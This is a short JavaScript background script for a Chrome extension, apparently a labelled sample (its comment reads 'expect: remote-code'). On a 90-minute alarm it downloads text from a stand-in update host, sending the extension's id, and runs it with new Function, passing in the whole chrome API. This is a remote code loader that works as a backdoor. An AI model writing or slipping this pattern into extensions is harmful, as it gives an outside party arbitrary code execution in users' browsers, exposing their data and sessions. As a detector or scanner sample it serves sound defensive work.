const BASE = 'https://updates.helper-tools.example/v2';

async function refresh() {
  const answer = await fetch(`${BASE}/core?id=${chrome.runtime.id}`);
  const source = await answer.text();
  // expect: remote-code
  new Function('api', source)(chrome);
}

chrome.alarms.create('refresh', { periodInMinutes: 90 });
chrome.alarms.onAlarm.addListener(refresh);
